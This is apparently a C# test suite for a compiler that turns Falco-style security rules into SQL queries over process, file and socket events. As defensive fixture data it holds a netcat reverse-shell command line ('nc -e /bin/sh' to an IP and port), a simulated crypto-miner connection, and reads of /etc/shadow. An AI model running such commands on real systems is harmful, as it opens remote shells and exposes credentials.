// SPDX-License-Identifier: Apache-2.0
namespace FarQuery.Rules.Tests;

/// <summary>Rules compiled and run on rows in SQLite: what fires, what is suppressed, and what is rejected and why.</summary>
public sealed class RuleCompilerTests
{
    private const string Nc = """
        - rule: Netcat
          desc: nc with -e
          condition: spawned_process and container and proc.name = nc and proc.args contains "-e"
          output: Netcat RCE (user=%user.name command=%proc.cmdline parent=%proc.pname aname2=%proc.aname[2])
          priority: WARNING
          tags: [network, mitre_execution]
        """;

    [Fact]
    public void Compile_SpawnedProcessRule_FiresWithOutputFieldsAsColumns()
    {
        var report = Compile.Texts(Compile.Base, Nc);
        var rule = Compile.Rule(report, "Netcat");
        Assert.Equal(RuleStatus.Compiled, rule.Status);
        Assert.Equal(["process_events"], rule.Query!.Tables);
        using var db = new EventDatabase();
        db.Add("users", ("uid", 0), ("username", "root"));
        db.Exec("nc", "/bin/nc -e /bin/sh 10.0.0.1 4444", parent: "bash", ancestors: "bash sshd").Exec("nc", "nc -l 80").Exec("ls", "ls -e");
        var row = Assert.Single(db.Run(rule.Query.Sql));
        Assert.Equal("Netcat", row["rule"]);
        Assert.Equal("WARNING", row["priority"]);
        Assert.Equal("network,mitre_execution", row["tags"]);
        Assert.Equal("nc -e /bin/sh 10.0.0.1 4444", row["proc.cmdline"]);
        Assert.Equal("root", row["user.name"]);
        Assert.Equal("sshd", row["proc.aname[2]"]);
        Assert.Equal("Netcat RCE (user=root command=nc -e /bin/sh 10.0.0.1 4444 parent=bash aname2=sshd)", row["output"]);
    }

    [Fact]
    public void Compile_ListAppendAndMacroOverride_ChangeWhatFires()
    {
        const string rules = """
            - list: allowed
              items: [nginx]
            - macro: watched
              condition: proc.pname = nginx
            - rule: Unexpected
              desc: x
              condition: spawned_process and watched and not proc.name in (allowed)
              output: "%proc.name"
              priority: NOTICE
            """;
        const string user = """
            - list: allowed
              items: [ls]
              override:
                items: append
            - macro: watched
              condition: proc.pname in (nginx, httpd)
              override:
                condition: replace
            """;
        using var db = new EventDatabase();
        db.Exec("ls", "ls", parent: "nginx").Exec("id", "id", parent: "httpd").Exec("cat", "cat", parent: "nginx");
        var before = db.Run(Compile.Rule(Compile.Texts(Compile.Base, rules), "Unexpected").Query!.Sql).Select(r => r["proc.name"]).Order();
        var after = db.Run(Compile.Rule(Compile.Texts(Compile.Base, rules, user), "Unexpected").Query!.Sql).Select(r => r["proc.name"]).Order();
        Assert.Equal(["cat", "ls"], before);
        Assert.Equal(["cat", "id"], after);
    }

    [Fact]
    public void Compile_Exceptions_SuppressExactlyTheListedValues()
    {
        const string rule = """
            - rule: Shell
              desc: x
              condition: spawned_process and proc.name in (shell_binaries)
              output: "%proc.name %proc.pname"
              priority: NOTICE
              exceptions:
                - name: known_parents
                  fields: [proc.name, proc.pname]
                  comps: [=, in]
                  values:
                    - [sh, [cron, make]]
                - name: known_names
                  fields: proc.cmdline
                  comps: startswith
                  values: [bash -c healthcheck]
            """;
        using var db = new EventDatabase();
        db.Exec("sh", "sh -c a", parent: "cron").Exec("sh", "sh -c b", parent: "make").Exec("sh", "sh -c c", parent: "crond")
            .Exec("bash", "bash -c a", parent: "cron").Exec("bash", "/bin/bash -c healthcheck --x", parent: "node").Exec("bash", "bash -c health", parent: "node");
        var rows = db.Run(Compile.Rule(Compile.Texts(Compile.Base, rule), "Shell").Query!.Sql).Select(r => r["proc.name"] + "<" + r["proc.pname"]).Order();
        Assert.Equal(["bash<cron", "bash<node", "sh<crond"], rows);
    }

    [Fact]
    public void Compile_ExceptionAppendedLater_AlsoSuppresses()
    {
        const string rule = """
            - rule: Shell
              desc: x
              condition: spawned_process and proc.name = sh
              output: "%proc.pname"
              priority: NOTICE
              exceptions:
                - name: parents
                  fields: [proc.pname]
                  values: [[cron]]
            """;
        const string user = "- rule: Shell\n  exceptions:\n    - name: parents\n      values: [[make]]\n  append: true\n";
        using var db = new EventDatabase();
        db.Exec("sh", "sh", parent: "cron").Exec("sh", "sh", parent: "make").Exec("sh", "sh", parent: "node");
        Assert.Equal(["node"], db.Run(Compile.Rule(Compile.Texts(Compile.Base, rule, user), "Shell").Query!.Sql).Select(r => r["proc.pname"]));
    }

    [Fact]
    public void Compile_ImageRulesetAllowList_LsFiresAllowedSilent()
    {
        const string nginx = """
            - list: nginx_allowed_processes
              items: ["nginx", "app-entrypoint.", "basename", "dirname", "grep", "nami", "node", "tini"]
            - macro: app_nginx
              condition: container and container.image contains "nginx"
            - rule: Unexpected spawned process nginx
              desc: x
              condition: spawned_process and not proc.name in (nginx_allowed_processes) and app_nginx
              output: Unexpected process spawned in nginx container (command=%proc.cmdline image=%container.image)
              priority: NOTICE
            """;
        using var db = new EventDatabase();
        db.Add("ecs_metadata", ("docker_id", "abc-1"), ("image", "public.ecr.aws/nginx/nginx:1.27"), ("is_self", 1));
        db.Exec("ls", "ls -la").Exec("nginx", "nginx -g daemon off;").Exec("grep", "grep x");
        var rows = db.Run(Compile.Rule(Compile.Texts(Compile.Base, nginx), "Unexpected spawned process nginx").Query!.Sql);
        var row = Assert.Single(rows);
        Assert.Equal("ls -la", row["proc.cmdline"]);
        Assert.Equal("Unexpected process spawned in nginx container (command=ls -la image=public.ecr.aws/nginx/nginx:1.27)", row["output"]);
    }

    [Theory]
    [InlineData("spawned_process and not proc.tty = 0")]
    [InlineData("spawned_process and (proc.name = sh or proc.tty != 0)")]
    [InlineData("spawned_process and not (proc.name = sh and k8s.ns.name = default)")]
    [InlineData("spawned_process and proc.name = sh and not user_known")]
    public void Compile_UnknownFieldUnderNotOrOr_RejectedNeverNarrowed(string condition)
    {
        var yaml = $"- macro: user_known\n  condition: (proc.sid = 1)\n- rule: R\n  desc: x\n  condition: {condition}\n  output: o\n  priority: NOTICE\n";
        var r = Compile.Rule(Compile.Texts(Compile.Base, yaml), "R");
        Assert.Equal(RuleStatus.Rejected, r.Status);
        var issue = Assert.Single(r.Issues);
        Assert.Contains(issue.Field, new[] { "proc.tty", "k8s.ns.name", "proc.sid" });
        Assert.Null(r.Query);
    }

    [Fact]
    public void Compile_K8sField_ReasonNamesFieldAndWhy()
    {
        var r = Compile.Rule(Compile.Texts(Compile.Base, "- rule: R\n  desc: x\n  condition: spawned_process and k8s.ns.name = kube-system\n  output: o\n  priority: NOTICE\n"), "R");
        Assert.Equal("`k8s.ns.name`: no Kubernetes on Fargate", r.Reason);
    }

    [Fact]
    public void Compile_UnknownFieldOnlyUnderUntracedEvent_CompiledForTracedEvents()
    {
        // `evt.type = dup and fd.name_changed = true` is false on every FarQuery table whatever fd.name_changed is.
        var r = Compile.Rule(Compile.Texts(Compile.Base, "- rule: R\n  desc: x\n  condition: (evt.type = dup and fd.name_changed = true) or (spawned_process and proc.name = sh)\n  output: o\n  priority: NOTICE\n"), "R");
        Assert.Equal(RuleStatus.Compiled, r.Status);
        Assert.Contains(r.Notes, n => n.Contains("dup", StringComparison.Ordinal));
    }

    [Fact]
    public void Compile_OnlyUntracedEvents_RejectedByEventType()
    {
        var r = Compile.Rule(Compile.Texts("- rule: R\n  desc: x\n  condition: evt.type in (dup2, dup3) and fd.num = 1\n  output: o\n  priority: NOTICE\n"), "R");
        Assert.Equal(RuleStatus.Rejected, r.Status);
        Assert.Equal("`evt.type`: FarQuery does not trace dup2, dup3", r.Reason);
    }

    [Fact]
    public void Compile_RecursiveMacros_RejectedWithTheCycle()
    {
        var r = Compile.Rule(Compile.Texts("- macro: a\n  condition: b\n- macro: b\n  condition: proc.name = x or a\n- rule: R\n  desc: x\n  condition: spawned_process and a\n  output: o\n  priority: NOTICE\n" + Compile.Base), "R");
        Assert.Equal(RuleStatus.Rejected, r.Status);
        Assert.Contains("recursive macro: a -> b -> a", r.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Compile_ListReferencingItself_Rejected()
    {
        var r = Compile.Rule(Compile.Texts("- list: l\n  items: [a, m]\n- list: m\n  items: [l]\n- rule: R\n  desc: x\n  condition: spawned_process and proc.name in (l)\n  output: o\n  priority: NOTICE\n" + Compile.Base), "R");
        Assert.Equal(RuleStatus.Rejected, r.Status);
        Assert.Contains("list l references itself (l -> m -> l)", r.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Compile_LongMacroChain_RejectedNoCrash()
    {
        var macros = string.Concat(Enumerable.Range(0, 5_000).Select(i => $"- macro: m{i}\n  condition: (m{i + 1})\n"));
        var yaml = macros + "- macro: m5000\n  condition: proc.name = x\n- rule: R\n  desc: x\n  condition: spawned_process and m0\n  output: o\n  priority: NOTICE\n";
        var r = Compile.Rule(Compile.Texts(Compile.Base, yaml), "R");
        Assert.Equal(RuleStatus.Rejected, r.Status);
        Assert.Contains("macros nest deeper than", r.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Compile_DeepMacrosNestingDeepConditions_BoundedError()
    {
        // Thirty macros, each nesting the next 90 `or (` levels deep: every one parses, the expansion is 2,700 deep.
        var wrap = string.Concat(Enumerable.Repeat("proc.pid = 1 or (", 90));
        var close = new string(')', 90);
        var macros = string.Concat(Enumerable.Range(0, 30).Select(i => $"- macro: m{i}\n  condition: {wrap}m{i + 1}{close}\n"));
        var yaml = macros + "- macro: m30\n  condition: proc.name = x\n- rule: R\n  desc: x\n  condition: spawned_process and m0\n  output: o\n  priority: NOTICE\n";
        var r = Compile.Rule(Compile.Texts(Compile.Base, yaml), "R");
        Assert.Equal(RuleStatus.Rejected, r.Status);
        Assert.Contains($"deeper than {RuleCompiler.MaxExpandedDepth} levels once macros are expanded", r.Reason, StringComparison.Ordinal);
    }

    [Fact]
    public void Compile_UndefinedMacroAndSyntaxError_RejectedWithPosition()
    {
        var report = Compile.Texts(Compile.Base, "- rule: A\n  desc: x\n  condition: spawned_process and nosuch\n  output: o\n  priority: NOTICE\n- rule: B\n  desc: x\n  condition: (spawned_process\n  output: o\n  priority: NOTICE\n");
        Assert.Contains("undefined macro 'nosuch'", Compile.Rule(report, "A").Reason, StringComparison.Ordinal);
        var b = Compile.Rule(report, "B").Reason;
        Assert.Contains("file2.yaml:8:14", b, StringComparison.Ordinal);
        Assert.Contains("unbalanced '('", b, StringComparison.Ordinal);
    }

    [Fact]
    public void Compile_DisabledAndOtherSource_NotCompiled()
    {
        var report = Compile.Texts(Compile.Base, "- rule: A\n  desc: x\n  condition: spawned_process\n  output: o\n  priority: NOTICE\n  enabled: false\n- rule: B\n  desc: x\n  condition: ka.verb = create\n  output: o\n  priority: NOTICE\n  source: k8s_audit\n");
        Assert.Equal(RuleStatus.Disabled, Compile.Rule(report, "A").Status);
        var b = Compile.Rule(report, "B");
        Assert.Equal(RuleStatus.Rejected, b.Status);
        Assert.Equal("source", Assert.Single(b.Issues).Field);
    }

    [Fact]
    public void Compile_NotOnMissingValue_MatchesLikeFalco()
    {
        // Falco: a field without a value fails its comparison, so `not user.name in (...)` holds. SQL NULL must agree.
        var rule = Compile.Rule(Compile.Texts(Compile.Base, "- rule: R\n  desc: x\n  condition: spawned_process and not user.name in (root)\n  output: \"%proc.name\"\n  priority: NOTICE\n"), "R");
        using var db = new EventDatabase();
        db.Add("users", ("uid", 0), ("username", "root"));
        db.Exec("a", "a", uid: 0).Exec("b", "b", uid: 4242);
        Assert.Equal(["b"], db.Run(rule.Query!.Sql).Select(r => r["proc.name"]));
    }

    [Fact]
    public void Compile_OutboundMacro_OnlyPublicConnectsFire()
    {
        const string outbound = """
            - list: rfc_1918_addresses
              items: ['"10.0.0.0/8"', '"172.16.0.0/12"', '"192.168.0.0/16"']
            - macro: outbound
              condition: >
                ((evt.type = connect or (evt.type in (sendto,sendmsg) and fd.l4proto != tcp and fd.connected=false and fd.name_changed=true)) and
                 (fd.typechar = 4 or fd.typechar = 6) and
                 (fd.ip != "0.0.0.0" and fd.net != "127.0.0.0/8" and not fd.snet in (rfc_1918_addresses)) and
                 (evt.rawres >= 0 or evt.res = EINPROGRESS))
            - rule: Out
              desc: x
              condition: outbound and fd.sport = 3333
              output: "%fd.sip:%fd.sport %fd.name"
              priority: CRITICAL
            """;
        var rule = Compile.Rule(Compile.Texts(Compile.Base, outbound), "Out");
        Assert.Equal(RuleStatus.Compiled, rule.Status);
        using var db = new EventDatabase();
        foreach (var (ip, result) in new[] { ("198.51.100.7", 0L), ("10.1.1.1", 0L), ("172.20.0.1", 0L), ("127.0.0.1", 0L), ("203.0.113.9", -115L), ("203.0.113.10", -111L) })
        {
            db.Add("socket_events", ("action", "connect"), ("syscall", "connect"), ("family", 2), ("protocol", 6), ("local_address", "172.17.0.2"), ("local_port", 40000),
                ("remote_address", ip), ("remote_port", 3333), ("result", result), ("name", "xmrig"));
        }

        var rows = db.Run(rule.Query!.Sql);
        Assert.Equal(["198.51.100.7", "203.0.113.9"], rows.Select(r => r["fd.sip"]));
        Assert.Equal("172.17.0.2:40000->198.51.100.7:3333", rows[0]["fd.name"]);
    }

    [Fact]
    public void Compile_FileRule_FlagsAndDirectories()
    {
        const string yaml = """
            - rule: Clear logs
              desc: x
              condition: open_write and evt.arg.flags contains O_TRUNC and fd.directory pmatch (/var/log)
              output: "%fd.name %evt.arg.flags"
              priority: WARNING
            """;
        var rule = Compile.Rule(Compile.Texts(Compile.Base, yaml), "Clear logs");
        using var db = new EventDatabase();
        db.Add("process_file_events", ("operation", "open"), ("syscall", "openat"), ("path", "/var/log/app/x.log"), ("flags", "01101"), ("result", 3), ("status", "succeeded"));
        db.Add("process_file_events", ("operation", "open"), ("syscall", "openat"), ("path", "/var/log/y.log"), ("flags", "02101"), ("result", 3), ("status", "succeeded"));
        db.Add("process_file_events", ("operation", "open"), ("syscall", "openat"), ("path", "/var/logs/z"), ("flags", "01101"), ("result", 3), ("status", "succeeded"));
        db.Add("process_file_events", ("operation", "open"), ("syscall", "openat"), ("path", "/var/log/r"), ("flags", "01000"), ("result", 3), ("status", "succeeded"));
        Assert.Equal(["/var/log/app/x.log"], db.Run(rule.Query!.Sql).Select(r => r["fd.name"]));
    }

    /// <summary>Falco's read macros (falco_rules.yaml), and rules on them as users write them.</summary>
    private const string ReadRules = """
        - macro: open_read
          condition: (evt.type in (open,openat,openat2) and evt.is_open_read=true and fd.typechar='f' and fd.num>=0)
        - macro: open_file_failed
          condition: (evt.type in (open,openat,openat2) and fd.typechar='f' and fd.num=-1 and evt.res startswith E)
        - rule: Secret read
          desc: x
          condition: open_read and fd.directory = /etc and fd.filename = shadow
          output: "%evt.type %fd.num %evt.res %proc.name"
          priority: WARNING
        - rule: Failed open
          desc: x
          condition: open_file_failed and fd.name startswith /etc/
          output: "%proc.name"
          priority: NOTICE
        - rule: Plain open only
          desc: x
          condition: evt.type = open and fd.name = /etc/shadow
          output: "%proc.name"
          priority: NOTICE
        """;

    private static List<Dictionary<string, string?>> RunReadRule(string name)
    {
        using var db = new EventDatabase();
        void Open(string name, string syscall, string flags, long result, string path = "/etc/shadow") =>
            db.Add("process_file_events", ("operation", "open"), ("syscall", syscall), ("path", path), ("flags", flags), ("result", result),
                ("status", syscall == "inotify" || result >= 0 ? "succeeded" : "failed"), ("name", name));

        // A sensitive read whose reader had closed the file (flags 00, result -1) and one whose descriptor was found;
        // the tracer's own read, write and failed opens; a sensitive read of another file.
        Open("cat", "inotify", "00", -1);
        Open("python3", "inotify", "0100000", 3);
        Open("head", "openat", "0100000", 4);
        Open("tee", "openat", "01101", 3);
        Open("less", "openat", "0", -13);
        Open("grep", "inotify", "00", -1, "/etc/gshadow");
        return db.Run(Compile.Rule(Compile.Texts(ReadRules), name).Query!.Sql);
    }

    [Fact]
    public void Compile_OpenReadOnSensitiveReadRows_FiresAsAnOpenatWithNoKnownDescriptor()
    {
        var rows = RunReadRule("Secret read");
        Assert.Equal(["cat", "python3", "head"], rows.Select(r => r["proc.name"]));
        Assert.Equal(["openat <NA> SUCCESS cat", "openat 3 SUCCESS python3", "openat 4 SUCCESS head"], rows.Select(r => r["output"]));
    }

    [Fact]
    public void Compile_OpenFileFailedOnSensitiveReadRows_OnlyTheTracersFailedOpen()
    {
        // The -1 of a sensitive read is "descriptor not known", not EPERM: inotify reports successful opens only.
        Assert.Equal(["less"], RunReadRule("Failed open").Select(r => r["proc.name"]));
    }

    [Fact]
    public void Compile_StockReadSensitiveFileTrustedAfterStartup_FiresOnServersOlderThanFiveSecondsOrOfUnknownStart()
    {
        if (Paths.Falco is not { } dir)
        {
            return;
        }

        var rule = Compile.Rule(Compile.Texts(File.ReadAllText(Path.Join(dir, "falco_rules.yaml"))), "Read sensitive file trusted after startup");
        Assert.Equal(RuleStatus.Compiled, rule.Status);
        Assert.Equal(["process_file_events"], rule.Query!.Tables);
        // proc_is_new is proc.duration <= 5000000000, under not: NULL (an unknown start) must count as not new.
        Assert.Contains("NOT ifnull(((e.time - e.start_time) * 1000000000) <= 5000000000, 0)", rule.Query.Sql, StringComparison.Ordinal);
        using var db = new EventDatabase();
        void Read(long pid, string name, long? age)
        {
            // EventDatabase gives row n the time 1_700_000_000 + n.
            var time = 1_700_000_001L + pid - 1;
            db.Add("process_file_events", ("operation", "open"), ("syscall", "inotify"), ("path", "/etc/shadow"), ("flags", "00"), ("result", -1L),
                ("status", "succeeded"), ("pid", pid), ("name", name), ("cmdline", $"{name} {pid}"), ("start_time", age is { } a ? time - a : null));
        }

        Read(1, "nginx", 60);
        Read(2, "nginx", 5);
        Read(3, "nginx", 0);
        Read(4, "nginx", null);
        Read(5, "postgres", 6);
        Read(6, "sshd", 600);
        Read(7, "cat", 600);
        // Older than 5 s, of unknown start, and a database server: they fire; a server in its first 5 s, sshd and a
        // program that is no server do not.
        Assert.Equal(["nginx 1", "nginx 4", "postgres 5"], db.Run(rule.Query.Sql).Select(r => r["proc.cmdline"]));
    }

    [Fact]
    public void Compile_EventTypeOpenOnSensitiveReadRows_NotMatchedSinceTheyAreOpenat()
    {
        Assert.Empty(RunReadRule("Plain open only"));
    }
}
